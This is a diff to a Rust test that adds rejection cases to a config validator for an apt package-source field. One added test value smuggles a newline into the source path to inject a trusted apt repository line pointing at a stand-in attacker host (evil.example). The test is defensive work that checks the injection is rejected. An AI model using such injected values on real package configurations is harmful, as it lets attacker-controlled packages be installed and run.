@@ -160,6 +160,18 @@ fn bad_values_name_path_and_line() {
             "must be at least 1",
         ),
         (
+            "packages:\n  source: \"local:/srv/repo ./\\ndeb [trusted=yes] http://evil.example/ ./\"\n",
+            4,
+            "packages.source",
+            "the repository path may hold only letters, digits",
+        ),
+        (
+            "packages:\n  source: \"local:/srv/my repo\"\n",
+            4,
+            "packages.source",
+            "not ' ', because it is written into an apt sources line",
+        ),
+        (
             "packages:\n  source: http://x\n",
             4,
             "packages.source",
